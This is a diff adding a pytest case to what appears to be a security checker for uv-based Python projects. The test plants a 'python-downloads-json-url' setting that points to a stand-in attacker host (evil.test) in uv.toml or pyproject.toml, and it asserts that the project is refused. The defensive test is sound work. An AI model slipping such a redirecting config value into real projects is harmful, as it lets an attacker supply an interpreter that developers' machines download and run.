@@ -212,6 +212,16 @@ def test_the_old_name_of_a_package_hides_nothing(project: Project, wheel: Publis
     project.refuse(2, UV, "distribution")
 
 
+@pytest.mark.parametrize(("name", "table"), [("uv.toml", ""), ("pyproject.toml", "[tool.uv]\n")])
+def test_a_project_names_no_python_to_download(project: Project, name: str, table: str) -> None:
+    """uv would fetch that list, then an interpreter with whatever hash it says, and run it before it installs."""
+    path = project.folder / name
+    before = path.read_text() if path.exists() else ""
+    path.write_text(f'{before}{table}python-downloads-json-url = "https://evil.test/list.json"\n')
+    project.refuse(5, UV, "python-downloads-json-url")
+    assert project.run([*UV, "--no-config"]).exit_code == 0
+
+
 def test_a_source_of_two_kinds_is_refused(project: Project, wheel: Published) -> None:
     """uv takes the first kind it knows; a `virtual` beside it would have hidden the package from us."""
     lock = project.uv_lock(wheel, sha256=EVIL)
